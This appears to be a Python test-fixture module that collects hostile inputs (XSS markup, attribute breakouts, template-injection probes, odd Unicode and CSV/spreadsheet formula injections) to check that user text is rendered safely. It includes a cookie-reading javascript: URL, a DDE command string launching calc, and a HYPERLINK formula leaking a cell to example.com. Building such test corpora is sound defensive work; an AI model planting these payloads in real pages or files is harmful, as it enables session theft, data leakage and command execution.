"""Texts that are up to no good: what clients, providers and operators may write, and pages must only show.

Each element, attribute or expression in them would make something that is called ``owned``: a page on which
such a thing is found, or that opens a dialog, has taken a text for markup.
"""

from __future__ import annotations

MARKUP = (
    '<script id="owned">alert(1);window.owned=1</script>',
    '<img id=owned src=x onerror="alert(1);window.owned=1">',
    "<svg id=owned onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    '"><b id="owned" onmouseover="alert(1)">bold</b>',
    "' autofocus onfocus='alert(1)' id='owned",
    '</title></textarea></pre></script><iframe id="owned" srcdoc="<script>alert(1)</script>"></iframe>',
    '<form id="owned" action="//example.com"><input name=token></form>',
    '<a id="owned" href="javascript:alert(1)">x</a>',
    "javascript:alert(document.cookie)//",
    "<!--><style id=owned>*{display:none}</style>-->",
    '<div id="owned" hx-get="/admin/logout" hx-trigger="load">x</div>',
)
"""What would be elements, or attributes."""

TEMPLATES = ("{{7*7}}{{ config }}{% include 'login.html' %}", "${7*7} #{7*7} <%= 7*7 %> {# x #}")
"""What would be a template's."""

TEXT = (
    "\u202emalevolent\u202c \u200f\u0627\u0644\u0633\u0644\u0627\u0645 \u2066ltr\u2069",
    "\ufffd\u200b\ufeff\u00ad \U0001f989\U0001f468\u200d\U0001f469\u200d\U0001f467 e\u0301\u0323"
    + "\u0489" * 20,
    "unbreakable" * 45,
    "&lt;script&gt; &amp;amp; &#x3c;b&#x3e;",
)
"""What is only odd."""

FORMULAS = ('=HYPERLINK("http://example.com?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1")
"""What a spreadsheet would reckon."""

CORPUS = (*MARKUP, *TEMPLATES, *TEXT, *FORMULAS)

__all__ = ["CORPUS", "FORMULAS", "MARKUP", "TEMPLATES", "TEXT"]
